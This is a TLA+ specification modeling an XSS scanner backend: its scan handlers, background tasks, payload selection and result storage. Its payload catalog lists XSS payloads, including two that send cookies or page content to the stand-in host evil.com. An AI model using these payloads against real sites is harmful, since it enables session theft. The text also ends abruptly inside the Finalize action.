---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the XSS scanner backend (backend/server.py): the three         *)
(* collections of the document store, the create_scan handler, the         *)
(* background_scan task of every accepted scan, and the pure scanning      *)
(* functions perform_xss_scan and test_payload.                            *)
(*                                                                         *)
(* Five specifications share the actions: Spec (scans submitted and run    *)
(* concurrently, ids chosen by the callers), SpecSolo (one submitted scan   *)
(* followed to its end, over more request bodies and fetch outcomes, with   *)
(* the clock advancing), SpecFn (test_payload and perform_xss_scan called   *)
(* on their own over tables of inputs), SpecApi (the handlers that read     *)
(* called between the steps of two scans with distinct ids) and SpecDash    *)
(* (a scan submitted and run between the queries of get_dashboard_stats).   *)
(*                                                                         *)
(* Python strings are TLA+ strings (TLC evaluates Len, \o, SubSeq, Head    *)
(* and Tail on them).  Optional values are None (the empty tuple) or       *)
(* Some(x) (a one-element tuple).  Floats that the program only ever       *)
(* computes as whole numbers (n * 2.0, 10.0) are integers.                 *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    XSS_PAYLOADS,     \* the module-level payload catalogs (a mutable dict of lists)
    scans,            \* db.scans: the stored ScanRequest documents, in insertion order
    scan_results,     \* db.scan_results: the stored ScanResult documents
    vulnerabilities,  \* db.vulnerabilities: the stored Vulnerability documents
    handlers,         \* create_scan calls in flight (request stored, result not yet)
    tasks,            \* the background_scan tasks, each with its position and locals
    clock,            \* the wall clock read by datetime.now
    faults,           \* number of external calls that have raised so far
    probe             \* the call under test of the pure-function specification,
                      \* or the reading handler in flight and its response

vars == <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks,
          clock, faults, probe>>

-----------------------------------------------------------------------------
(* Bounds of the model *)

MaxScans == 2

MaxActive == 2

MaxFaults == 2

MaxClock == 1

\* the number of external calls that may raise while the handlers that read
\* are called beside the scans
MaxApiFaults == 1

-----------------------------------------------------------------------------
(* Python values *)

None == <<>>

Some(x) == <<x>>

\* value of an Optional that is known to be set
Get(opt) == opt[1]

\* x if x else d, for an Optional list
OrElse(opt, d) == IF opt = None THEN d ELSE Get(opt)

Min(a, b) == IF a <= b THEN a ELSE b

-----------------------------------------------------------------------------
(* str methods used by the scanner *)

UpperToLower ==
    [c \in {"A","B","C","D","E","F","G","H","I","J","K","L","M",
            "N","O","P","Q","R","S","T","U","V","W","X","Y","Z"} |->
        CASE c = "A" -> "a" [] c = "B" -> "b" [] c = "C" -> "c" [] c = "D" -> "d"
          [] c = "E" -> "e" [] c = "F" -> "f" [] c = "G" -> "g" [] c = "H" -> "h"
          [] c = "I" -> "i" [] c = "J" -> "j" [] c = "K" -> "k" [] c = "L" -> "l"
          [] c = "M" -> "m" [] c = "N" -> "n" [] c = "O" -> "o" [] c = "P" -> "p"
          [] c = "Q" -> "q" [] c = "R" -> "r" [] c = "S" -> "s" [] c = "T" -> "t"
          [] c = "U" -> "u" [] c = "V" -> "v" [] c = "W" -> "w" [] c = "X" -> "x"
          [] c = "Y" -> "y" [] c = "Z" -> "z"]

\* c.lower() for one character
LowerChar(c) == IF c \in DOMAIN UpperToLower THEN UpperToLower[c] ELSE c

\* s.lower(): every character lowered, halves joined
RECURSIVE Lower(_)
Lower(s) ==
    IF Len(s) = 0 THEN ""
    ELSE IF Len(s) = 1 THEN LowerChar(s)
    ELSE LET h == Len(s) \div 2
         IN  Lower(SubSeq(s, 1, h)) \o Lower(SubSeq(s, h + 1, Len(s)))

\* pat in s
Contains(s, pat) ==
    \E i \in 1..(Len(s) - Len(pat) + 1) : SubSeq(s, i, i + Len(pat) - 1) = pat

\* s.startswith(pat)
StartsWith(s, pat) == Len(s) >= Len(pat) /\ SubSeq(s, 1, Len(pat)) = pat

\* index of the first occurrence of the character c in s, 0 when there is none
RECURSIVE FindFrom(_, _, _)
FindFrom(s, c, i) ==
    IF i > Len(s) THEN 0
    ELSE IF SubSeq(s, i, i) = c THEN i
    ELSE FindFrom(s, c, i + 1)

\* s.split(c) for a one-character separator
RECURSIVE Split(_, _)
Split(s, c) ==
    LET i == FindFrom(s, c, 1)
    IN  IF i = 0 THEN <<s>>
        ELSE <<SubSeq(s, 1, i - 1)>> \o Split(SubSeq(s, i + 1, Len(s)), c)

\* smallest positive index among the given ones, 0 when none is positive
FirstOf(idxs) ==
    LET pos == {i \in idxs : i > 0}
    IN  IF pos = {} THEN 0 ELSE CHOOSE i \in pos : \A j \in pos : i <= j

\* urlparse(url).scheme and .netloc for a url of the form scheme://netloc...
\* (the scheme ends at the first ':'; the netloc follows '//' and ends before
\* the first '/', '?' or '#')
UrlScheme(url) ==
    LET i == FindFrom(url, ":", 1)
    IN  IF i = 0 THEN "" ELSE Lower(SubSeq(url, 1, i - 1))

UrlNetloc(url) ==
    LET i    == FindFrom(url, ":", 1)
        rest == IF i = 0 THEN url ELSE SubSeq(url, i + 1, Len(url))
    IN  IF ~StartsWith(rest, "//") THEN ""
        ELSE LET r == SubSeq(rest, 3, Len(rest))
                 e == FirstOf({FindFrom(r, "/", 1), FindFrom(r, "?", 1), FindFrom(r, "#", 1)})
             IN  IF e = 0 THEN r ELSE SubSeq(r, 1, e - 1)

-----------------------------------------------------------------------------
(* XSS_PAYLOADS.  A TLA+ string cannot hold a backquote, so the two          *)
(* backquotes of the fourth advanced payload are written ^ ; no pattern the *)
(* scanner looks for contains either character.                             *)

Catalog ==
    [basic |-> <<
        "<script>alert('XSS')</script>",
        "<img src=x onerror=alert('XSS')>",
        "javascript:alert('XSS')",
        "<svg onload=alert('XSS')>",
        "<iframe src=javascript:alert('XSS')></iframe>" >>,
     advanced |-> <<
        "<script>document.location='http://evil.com/steal?cookie='+document.cookie</script>",
        "<img src=x onerror=fetch('http://evil.com/steal?data='+document.body.innerHTML)>",
        "<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>",
        "<svg/onload=location='javascript:alert^XSS^'>",
        "<details open ontoggle=alert('XSS')>" >>,
     evasion |-> <<
        "<ScRiPt>alert('XSS')</ScRiPt>",
        "<script>ale%72t('XSS')</script>",
        "<script>&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;</script>",
        "<script src=data:,alert('XSS')></script>",
        "<svg><script>alert('XSS')</script></svg>" >>]

-----------------------------------------------------------------------------
(* test_payload *)

Patterns == <<"<script", "onerror=", "onload=", "javascript:">>

\* IsVulnerable with the patterns looked for in the payload as written
IsVulnerableCaseSensitive(payload) ==
    \E i \in 1..Len(Patterns) : Contains(payload, Patterns[i])

\* any(pattern in payload.lower() for pattern in [...])
IsVulnerable(payload) ==
    \E i \in 1..Len(Patterns) : Contains(Lower(payload), Patterns[i])

\* Severity with the alert( test made first
SeverityAlertFirst(payload) ==
    IF Contains(payload, "alert(") THEN "medium"
    ELSE IF Contains(payload, "document.cookie") \/ Contains(payload, "fetch(") THEN "critical"
    ELSE "high"

\* Severity that starts from "low" instead of "high"
SeverityFromLow(payload) ==
    IF Contains(payload, "document.cookie") \/ Contains(payload, "fetch(") THEN "critical"
    ELSE IF Contains(payload, "alert(") THEN "medium"
    ELSE "low"

\* the if / elif chain that follows severity = "high"
Severity(payload) ==
    IF Contains(payload, "document.cookie") \/ Contains(payload, "fetch(") THEN "critical"
    ELSE IF Contains(payload, "alert(") THEN "medium"
    ELSE "high"

\* the f-string of the evidence field
Evidence(payload, parameter, endpoint) ==
    "Payload '" \o payload \o "' was reflected in parameter '" \o parameter
        \o "' at endpoint '" \o endpoint \o "'"

\* test_payload(scan_id, endpoint, parameter, payload, vuln_type); uuid and now
\* are the values uuid.uuid4() and datetime.now() give the new Vulnerability
TestPayload(scan_id, endpoint, parameter, payload, vuln_type, uuid, now) ==
    IF IsVulnerable(payload)
    THEN Some([id                     |-> uuid,
               scan_id                |-> scan_id,
               vulnerability_type     |-> "XSS_" \o vuln_type,
               severity               |-> Severity(payload),
               endpoint               |-> endpoint,
               parameter              |-> parameter,
               payload                |-> payload,
               evidence               |-> Evidence(payload, parameter, endpoint),
               ai_summary             |-> None,
               remediation_suggestion |-> None,
               false_positive         |-> FALSE,
               created_at             |-> now])
    ELSE None

-----------------------------------------------------------------------------
(* perform_xss_scan *)

RECURSIVE Flatten(_)
Flatten(ss) == IF ss = <<>> THEN <<>> ELSE Head(ss) \o Flatten(Tail(ss))

\* seq[:n]
Prefix(seq, n) == SubSeq(seq, 1, Min(n, Len(seq)))

UrlParamLimit == 5

TextTypes == {"text", "search", "url", "email", "password"}

\* SelectPayloads with the quick selection not cut to three payloads
SelectPayloadsQuickUncut(req, catalog) ==
    IF req.scan_type = "quick" THEN catalog.basic
    ELSE IF req.scan_type = "comprehensive"
         THEN catalog.basic \o catalog.advanced \o catalog.evasion
    ELSE IF req.scan_type = "custom" /\ OrElse(req.custom_payloads, <<>>) # <<>>
         THEN Get(req.custom_payloads)
    ELSE <<>>

\* SelectPayloads that falls back to the basic catalog when a custom scan
\* names no payloads
SelectPayloadsCustomDefault(req, catalog) ==
    IF req.scan_type = "quick" THEN Prefix(catalog.basic, 3)
    ELSE IF req.scan_type = "comprehensive"
         THEN catalog.basic \o catalog.advanced \o catalog.evasion
    ELSE IF req.scan_type = "custom" /\ OrElse(req.custom_payloads, <<>>) # <<>>
         THEN Get(req.custom_payloads)
    ELSE catalog.basic

\* "Select payloads based on scan type"
SelectPayloads(req, catalog) ==
    IF req.scan_type = "quick" THEN Prefix(catalog.basic, 3)
    ELSE IF req.scan_type = "comprehensive"
         THEN catalog.basic \o catalog.advanced \o catalog.evasion
    ELSE IF req.scan_type = "custom" /\ OrElse(req.custom_payloads, <<>>) # <<>>
         THEN Get(req.custom_payloads)
    ELSE <<>>

\* base_url = f"{parsed_url.scheme}://{parsed_url.netloc}"
BaseUrl(url) == UrlScheme(url) \o "://" \o UrlNetloc(url)

\* the endpoint a form is tested at
FormAction(form, url) ==
    LET form_action == OrElse(form.action, "")
    IN  IF StartsWith(form_action, "http") THEN form_action
        ELSE BaseUrl(url) \o form_action

\* the test_payload calls of the loop over the forms, in call order
FormTests(req, forms, payloads) ==
    Flatten([f \in 1..Len(forms) |->
        Flatten([k \in 1..Len(forms[f].inputs) |->
            LET input_field == forms[f].inputs[k]
            IN  IF OrElse(input_field.type, "text") \in TextTypes
                THEN [p \in 1..Len(payloads) |->
                        [endpoint  |-> FormAction(forms[f], req.target_url),
                         parameter |-> OrElse(input_field.name, "unknown"),
                         payload   |-> payloads[p],
                         vuln_type |-> "form_input"]]
                ELSE <<>>])])

\* UrlTests without the limit on the payloads tried per parameter
UrlTestsUnlimited(req, payloads) ==
    IF req.include_urls /\ Contains(req.target_url, "?")
    THEN LET url_params == Split(Split(req.target_url, "?")[2], "&")
         IN  Flatten([k \in 1..Len(url_params) |->
                IF Contains(url_params[k], "=")
                THEN [p \in 1..Len(payloads) |->
                        [endpoint  |-> req.target_url,
                         parameter |-> Split(url_params[k], "=")[1],
                         payload   |-> payloads[p],
                         vuln_type |-> "url_parameter"]]
                ELSE <<>>])
    ELSE <<>>

\* the test_payload calls of the loop over the URL parameters, in call order
UrlTests(req, payloads) ==
    IF req.include_urls /\ Contains(req.target_url, "?")
    THEN LET url_params == Split(Split(req.target_url, "?")[2], "&")
         IN  Flatten([k \in 1..Len(url_params) |->
                IF Contains(url_params[k], "=")
                THEN [p \in 1..Len(Prefix(payloads, UrlParamLimit)) |->
                        [endpoint  |-> req.target_url,
                         parameter |-> Split(url_params[k], "=")[1],
                         payload   |-> payloads[p],
                         vuln_type |-> "url_parameter"]]
                ELSE <<>>])
    ELSE <<>>

\* uuid4 of the k-th Vulnerability that task number t constructs
VulnUuid(t, k) == "v" \o ToString(t) \o "-" \o ToString(k)

\* the vulnerabilities list built from the calls: every call that returns a
\* Vulnerability appends it, and the k-th of them carries the k-th uuid
Collect(calls, scan_id, t, now) ==
    LET hit      == [c \in 1..Len(calls) |-> IsVulnerable(calls[c].payload)]
        rank     == [c \in 1..Len(calls) |-> Cardinality({d \in 1..c : hit[d]})]
        returned == [c \in 1..Len(calls) |->
                        TestPayload(scan_id, calls[c].endpoint, calls[c].parameter,
                                    calls[c].payload, calls[c].vuln_type,
                                    VulnUuid(t, rank[c]), now)]
        appended == SelectSeq(returned, LAMBDA v : v # None)
    IN  [k \in 1..Len(appended) |-> Get(appended[k])]

FetchRaised == [raised |-> TRUE]

Fetched(status, forms) == [raised |-> FALSE, status |-> status, forms |-> forms]

\* ScanCalls with the URL parameters tested although the fetch raised
ScanCallsDespiteRaise(req, fetched, catalog) ==
    LET payloads == SelectPayloads(req, catalog)
    IN  IF fetched.raised THEN UrlTests(req, payloads)
        ELSE FormTests(req, IF req.include_forms THEN fetched.forms ELSE <<>>, payloads)
                \o UrlTests(req, payloads)

\* the test_payload calls perform_xss_scan makes for a request and the outcome
\* of the fetch: none when the fetch raised (the except clause is reached
\* before any test)
ScanCalls(req, fetched, catalog) ==
    IF fetched.raised THEN <<>>
    ELSE LET forms    == IF req.include_forms THEN fetched.forms ELSE <<>>
             payloads == SelectPayloads(req, catalog)
         IN  FormTests(req, forms, payloads) \o UrlTests(req, payloads)

\* perform_xss_scan(scan_request), run by task number t at time now
PerformXssScan(req, fetched, catalog, t, now) ==
    Collect(ScanCalls(req, fetched, catalog), req.id, t, now)

-----------------------------------------------------------------------------
(* The document store (motor collections) *)

\* collection.insert_one(doc)
InsertOne(coll, doc) == Append(coll, doc)

\* positions of the documents of coll whose scan_id is the given one
Matching(coll, scan_id) == {i \in 1..Len(coll) : coll[i].scan_id = scan_id}

\* position of the document find_one / update_one act on: the first match
FirstMatch(coll, scan_id) ==
    CHOOSE i \in Matching(coll, scan_id) : \A j \in Matching(coll, scan_id) : i <= j

\* collection.find_one({"scan_id": scan_id})
FindOne(coll, scan_id) ==
    IF Matching(coll, scan_id) = {} THEN None ELSE Some(coll[FirstMatch(coll, scan_id)])

\* UpdateOne with an empty filter: the first document of the collection is
\* updated, whatever its scan_id
UpdateOneUnfiltered(coll, scan_id, patch) ==
    IF coll = <<>> THEN coll
    ELSE [coll EXCEPT ![1] =
            [k \in DOMAIN @ |-> IF k \in DOMAIN patch THEN patch[k] ELSE @[k]]]

\* collection.update_one({"scan_id": scan_id}, {"$set": patch})
UpdateOne(coll, scan_id, patch) ==
    IF Matching(coll, scan_id) = {} THEN coll
    ELSE [coll EXCEPT ![FirstMatch(coll, scan_id)] =
            [k \in DOMAIN @ |-> IF k \in DOMAIN patch THEN patch[k] ELSE @[k]]]

-----------------------------------------------------------------------------
(* Pydantic models *)

\* ScanResult(scan_id=..., status="pending"); uuid is its generated id
NewScanResult(scan_id, uuid) ==
    [id                    |-> uuid,
     scan_id               |-> scan_id,
     status                |-> "pending",
     total_vulnerabilities |-> 0,
     critical_count        |-> 0,
     high_count            |-> 0,
     medium_count          |-> 0,
     low_count             |-> 0,
     ai_risk_score         |-> None,
     ai_executive_summary  |-> None,
     scan_duration         |-> None,
     started_at            |-> None,
     completed_at          |-> None]

\* uuid4 of the n-th ScanResult constructed
ResultUuid(n) == "r" \o ToString(n)

-----------------------------------------------------------------------------
(* Inputs: what callers post and what the target serves *)

ScanIds == {"s1", "s2"}

UrlPlain == "http://t.io/"

UrlQuery == "http://t.io/p?q=1"

\* ScanRequest bodies without id and created_at
Request(url, type, custom, forms, urls) ==
    [target_url |-> url, scan_type |-> type, custom_payloads |-> custom,
     include_forms |-> forms, include_urls |-> urls, max_depth |-> 3]

\* the body posted while other scans are running: a custom scan of a URL with
\* one parameter, with one payload, which matches
Bodies ==
    { Request(UrlQuery, "custom", Some(<<"<img src=x ONERROR=fetch(1)>">>), FALSE, TRUE) }

\* the bodies of the scans followed alone from submission to the end
SoloBodies ==
    Bodies \cup
    { Request(UrlQuery, "custom", None, TRUE, TRUE),
      Request(UrlQuery, "custom", Some(<<>>), TRUE, TRUE),
      Request(UrlQuery, "quick", None, TRUE, TRUE),
      Request(UrlQuery, "comprehensive", None, FALSE, TRUE),
      Request(UrlQuery, "custom", Some(<<"<b>alert(1)</b>", "<script>x()</script>">>), TRUE, TRUE),
      Request(UrlQuery, "custom", Some(<<"<script>x()</script>", "<svg onload=alert(1)>">>), FALSE, TRUE),
      Request(UrlPlain, "quick", None, TRUE, TRUE),
      Request(UrlPlain, "custom", Some(<<"JAVASCRIPT:document.cookie">>), TRUE, FALSE) }

\* a ScanRequest as FastAPI hands it to create_scan
ScanRequest(body, id, now) ==
    [id              |-> id,
     target_url      |-> body.target_url,
     scan_type       |-> body.scan_type,
     custom_payloads |-> body.custom_payloads,
     include_forms   |-> body.include_forms,
     include_urls    |-> body.include_urls,
     max_depth       |-> body.max_depth,
     created_at      |-> now]

\* results of soup.find_all('form'): each form with its action attribute and
\* the input, textarea and select elements found in it
Form(action, inputs) == [action |-> action, inputs |-> inputs]

Field(tag, name, type) == [tag |-> tag, name |-> name, type |-> type]

PageNoForm == <<>>

PageSearch ==
    << Form(Some("/search"), << Field("input", Some("q"), Some("text")),
                                Field("input", Some("go"), Some("submit")) >>) >>

Pages == {PageNoForm, PageSearch}

HttpStatuses == {200, 404}

\* what the fetch of the target can give
FetchOutcomes == {FetchRaised} \cup {Fetched(st, forms) : st \in HttpStatuses, forms \in Pages}

\* the same while other scans are running: the target is down or serves a
\* page without forms
PlainOutcomes == {FetchRaised, Fetched(200, PageNoForm)}

\* texts the text-generation service may return
OracleTexts == {"generated text"}

-----------------------------------------------------------------------------
(* State after construction *)

NoProbe == [kind |-> "none"]

Init ==
    /\ XSS_PAYLOADS = Catalog
    /\ scans = <<>>
    /\ scan_results = <<>>
    /\ vulnerabilities = <<>>
    /\ handlers = <<>>
    /\ tasks = <<>>
    /\ clock = 0
    /\ faults = 0
    /\ probe = NoProbe

\* an external call (store, fetch, text generation) may raise
MayRaise == faults < MaxFaults

Raise == faults' = faults + 1

\* the background task a successful create_scan schedules; it has not run yet
NewTask(no, req) ==
    [no                |-> no,
     req               |-> req,
     pc                |-> "start",
     fetched           |-> None,
     vulnerabilities   |-> <<>>,
     idx               |-> 0,
     n_analyzed        |-> 0,
     start_time        |-> None,
     end_time          |-> None,
     duration          |-> None,
     severity_counts   |-> None,
     executive_summary |-> None,
     oracle_calls      |-> <<>>]

Finished(t) == t.pc \in {"done", "crashed"}

\* create_scan calls and background tasks that have not finished
Active == Len(handlers) + Cardinality({i \in 1..Len(tasks) : ~Finished(tasks[i])})

-----------------------------------------------------------------------------
(* create_scan *)

\* POST /api/scans arrives and "await db.scans.insert_one" completes
CreateScanStoreRequest(body, id) ==
    /\ Len(scans) < MaxScans
    /\ Active < MaxActive
    /\ \/ /\ scans' = InsertOne(scans, ScanRequest(body, id, clock))
          /\ handlers' = Append(handlers, ScanRequest(body, id, clock))
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ UNCHANGED <<scans, handlers>>
    /\ UNCHANGED <<XSS_PAYLOADS, scan_results, vulnerabilities, tasks, clock, probe>>

\* "await db.scan_results.insert_one" completes, the task is added and the
\* handler returns; the task starts only after the response is sent
CreateScanStoreResult(h) ==
    /\ h \in 1..Len(handlers)
    /\ handlers' = SubSeq(handlers, 1, h - 1) \o SubSeq(handlers, h + 1, Len(handlers))
    /\ \/ /\ scan_results' = InsertOne(scan_results,
                NewScanResult(handlers[h].id, ResultUuid(Len(scan_results) + 1)))
          /\ tasks' = Append(tasks, NewTask(Len(tasks) + 1, handlers[h]))
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ UNCHANGED <<scan_results, tasks>>
    /\ UNCHANGED <<XSS_PAYLOADS, scans, vulnerabilities, clock, probe>>

-----------------------------------------------------------------------------
(* background_scan, one action per await *)

FallbackSummary == "AI analysis failed - manual review required"

FallbackRemediation ==
    "Apply standard XSS prevention techniques: input validation, output encoding, CSP headers"

NoVulnerabilitiesSummary == "No XSS vulnerabilities detected in the target application."

RiskCap == 10

RiskPerVulnerability == 2

Severities == {"critical", "high", "medium", "low"}

\* AnalyzedVulnerabilities that leaves out the findings whose analysis fell
\* back to the fixed texts
AnalyzedVulnerabilitiesEnrichedOnly(t) ==
    SelectSeq(SubSeq(t.vulnerabilities, 1, t.n_analyzed),
              LAMBDA v : v.ai_summary # Some("AI analysis failed - manual review required"))

\* analyzed_vulnerabilities: the vulnerabilities analysed so far (the same
\* objects as in the list perform_xss_scan returned)
AnalyzedVulnerabilities(t) == SubSeq(t.vulnerabilities, 1, t.n_analyzed)

\* SeverityCounts that never counts a high finding
SeverityCountsWithoutHigh(analyzed) ==
    [sev \in Severities |->
        IF sev = "high" THEN 0
        ELSE Cardinality({i \in 1..Len(analyzed) : analyzed[i].severity = sev})]

\* severity_counts after the counting loop
SeverityCounts(analyzed) ==
    [sev \in Severities |-> Cardinality({i \in 1..Len(analyzed) : analyzed[i].severity = sev})]

\* AfterLoop that asks for the executive summary whether or not there are
\* findings
AfterLoopAlwaysSummarises(t, now) ==
    LET analyzed == AnalyzedVulnerabilities(t)
    IN  [t EXCEPT !.end_time = Some(now),
                  !.duration = Some(now - Get(t.start_time)),
                  !.severity_counts = Some(SeverityCounts(analyzed)),
                  !.executive_summary = None,
                  !.pc = "summary"]

\* the code between the end of the analysis loop and the next await: the
\* results are calculated and either the summary call or the final update
\* is started
AfterLoop(t, now) ==
    LET analyzed == AnalyzedVulnerabilities(t)
    IN  [t EXCEPT !.end_time = Some(now),
                  !.duration = Some(now - Get(t.start_time)),
                  !.severity_counts = Some(SeverityCounts(analyzed)),
                  !.executive_summary =
                      IF analyzed # <<>> THEN None ELSE Some(NoVulnerabilitiesSummary),
                  !.pc = IF analyzed # <<>> THEN "summary" ELSE "finalize"]

\* CompletedPatch with the risk score not capped
CompletedPatchUncapped(t) ==
    LET analyzed == SubSeq(t.vulnerabilities, 1, t.n_analyzed)
        counts   == Get(t.severity_counts)
    IN  [status                |-> "completed",
         total_vulnerabilities |-> Len(analyzed),
         critical_count        |-> counts["critical"],
         high_count            |-> counts["high"],
         medium_count          |-> counts["medium"],
         low_count             |-> counts["low"],
         ai_risk_score         |-> Some(Len(analyzed) * RiskPerVulnerability),
         ai_executive_summary  |-> t.executive_summary,
         scan_duration         |-> t.duration,
         completed_at          |-> t.end_time]

\* the $set document of the final update
CompletedPatch(t) ==
    LET analyzed == AnalyzedVulnerabilities(t)
        counts   == Get(t.severity_counts)
    IN  [status                |-> "completed",
         total_vulnerabilities |-> Len(analyzed),
         critical_count        |-> counts["critical"],
         high_count            |-> counts["high"],
         medium_count          |-> counts["medium"],
         low_count             |-> counts["low"],
         ai_risk_score         |-> Some(Min(RiskCap, Len(analyzed) * RiskPerVulnerability)),
         ai_executive_summary  |-> t.executive_summary,
         scan_duration         |-> t.duration,
         completed_at          |-> t.end_time]

\* the first update_one completes: pending -> running
StartScan(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "start"
    /\ \/ /\ scan_results' = UpdateOne(scan_results, t.req.id,
                [status |-> "running", started_at |-> Some(clock)])
          /\ tasks' = [tasks EXCEPT ![i].pc = "fetch", ![i].start_time = Some(clock)]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "except"]
          /\ UNCHANGED scan_results
    /\ UNCHANGED <<XSS_PAYLOADS, scans, vulnerabilities, handlers, clock, probe>>

\* what the task keeps of the fetch: whether it raised, and the HTTP status
Outcome(fetched) ==
    IF fetched.raised THEN FetchRaised ELSE [raised |-> FALSE, status |-> fetched.status]

\* a resumption that would ask for the remediation of the first finding
\* before its technical analysis
AfterFetchRemediationFirst(t, fetched, catalog, now) ==
    LET found == PerformXssScan(t.req, fetched, catalog, t.no, now)
        t1    == [t EXCEPT !.fetched = Some(Outcome(fetched)), !.vulnerabilities = found]
    IN  IF found # <<>> THEN [t1 EXCEPT !.idx = 1, !.pc = "remediation"]
        ELSE AfterLoop(t1, now)

\* the code from the resumption after the fetch to the next await
AfterFetch(t, fetched, catalog, now) ==
    LET found == PerformXssScan(t.req, fetched, catalog, t.no, now)
        t1    == [t EXCEPT !.fetched = Some(Outcome(fetched)), !.vulnerabilities = found]
    IN  IF found # <<>> THEN [t1 EXCEPT !.idx = 1, !.pc = "technical"]
        ELSE AfterLoop(t1, now)

\* perform_xss_scan: the fetch of the target returns or raises; the tests that
\* follow do not suspend
Fetch(i, fetched) ==
    LET t == tasks[i] IN
    /\ t.pc = "fetch"
    /\ IF fetched.raised THEN MayRaise /\ Raise ELSE UNCHANGED faults
    /\ tasks' = [tasks EXCEPT ![i] = AfterFetch(t, fetched, XSS_PAYLOADS, clock)]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, clock, probe>>

OracleCall(persona, session_id, ok) ==
    [persona |-> persona, session_id |-> session_id, ok |-> ok]

\* the except clause of analyze_vulnerability_with_ai
WithFallbacks(v) ==
    [v EXCEPT !.ai_summary = Some(FallbackSummary),
              !.remediation_suggestion = Some(FallbackRemediation)]

\* Technical with no except clause around the call: a raising call leaves
\* analyze_vulnerability_with_ai and reaches the except clause of background_scan
TechnicalUncaught(i) ==
    LET t       == tasks[i]
        v       == t.vulnerabilities[t.idx]
        session == "vuln_analysis_" \o v.id
    IN
    /\ t.pc = "technical"
    /\ \/ /\ \E text \in OracleTexts :
                tasks' = [tasks EXCEPT
                    ![i].vulnerabilities[t.idx].ai_summary = Some(text),
                    ![i].oracle_calls = Append(@, OracleCall("technical", session, TRUE)),
                    ![i].pc = "remediation"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT
                ![i].oracle_calls = Append(@, OracleCall("technical", session, FALSE)),
                ![i].pc = "except"]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, clock, probe>>

\* analyze_vulnerability_with_ai: the technical-analysis call returns or raises
Technical(i) ==
    LET t       == tasks[i]
        v       == t.vulnerabilities[t.idx]
        session == "vuln_analysis_" \o v.id
    IN
    /\ t.pc = "technical"
    /\ \/ /\ \E text \in OracleTexts :
                tasks' = [tasks EXCEPT
                    ![i].vulnerabilities[t.idx].ai_summary = Some(text),
                    ![i].oracle_calls = Append(@, OracleCall("technical", session, TRUE)),
                    ![i].pc = "remediation"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT
                ![i].vulnerabilities[t.idx] = WithFallbacks(v),
                ![i].oracle_calls = Append(@, OracleCall("technical", session, FALSE)),
                ![i].n_analyzed = @ + 1,
                ![i].pc = "insert"]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, clock, probe>>

\* analyze_vulnerability_with_ai: the remediation call returns or raises
Remediation(i) ==
    LET t       == tasks[i]
        v       == t.vulnerabilities[t.idx]
        session == "remediation_" \o v.id
    IN
    /\ t.pc = "remediation"
    /\ \/ /\ \E text \in OracleTexts :
                tasks' = [tasks EXCEPT
                    ![i].vulnerabilities[t.idx].remediation_suggestion = Some(text),
                    ![i].oracle_calls = Append(@, OracleCall("remediation", session, TRUE)),
                    ![i].n_analyzed = @ + 1,
                    ![i].pc = "insert"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT
                ![i].vulnerabilities[t.idx] = WithFallbacks(v),
                ![i].oracle_calls = Append(@, OracleCall("remediation", session, FALSE)),
                ![i].n_analyzed = @ + 1,
                ![i].pc = "insert"]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, clock, probe>>

\* InsertVulnerability that goes on without storing the finding
InsertVulnerabilitySkipped(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "insert"
    /\ \/ /\ tasks' = [tasks EXCEPT ![i] =
                IF t.idx < Len(t.vulnerabilities)
                THEN [t EXCEPT !.idx = @ + 1, !.pc = "technical"]
                ELSE AfterLoop(t, clock)]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "except"]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, clock, probe>>

\* "await db.vulnerabilities.insert_one" completes
InsertVulnerability(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "insert"
    /\ \/ /\ vulnerabilities' = InsertOne(vulnerabilities, t.vulnerabilities[t.idx])
          /\ tasks' = [tasks EXCEPT ![i] =
                IF t.idx < Len(t.vulnerabilities)
                THEN [t EXCEPT !.idx = @ + 1, !.pc = "technical"]
                ELSE AfterLoop(t, clock)]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "except"]
          /\ UNCHANGED vulnerabilities
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, handlers, clock, probe>>

\* the executive-summary call returns or raises
ExecutiveSummary(i) ==
    LET t       == tasks[i]
        session == "executive_summary_" \o t.req.id
    IN
    /\ t.pc = "summary"
    /\ \/ /\ \E text \in OracleTexts :
                tasks' = [tasks EXCEPT
                    ![i].executive_summary = Some(text),
                    ![i].oracle_calls = Append(@, OracleCall("executive_summary", session, TRUE)),
                    ![i].pc = "finalize"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT
                ![i].oracle_calls = Append(@, OracleCall("executive_summary", session, FALSE)),
                ![i].pc = "except"]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, clock, probe>>

\* the final update_one completes: running -> completed
Finalize(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "finalize"
    /\ \/ /\ scan_results' = UpdateOne(scan_results, t.req.id, CompletedPatch(t))
          /\ tasks' = [tasks EXCEPT ![i].pc = "done"]
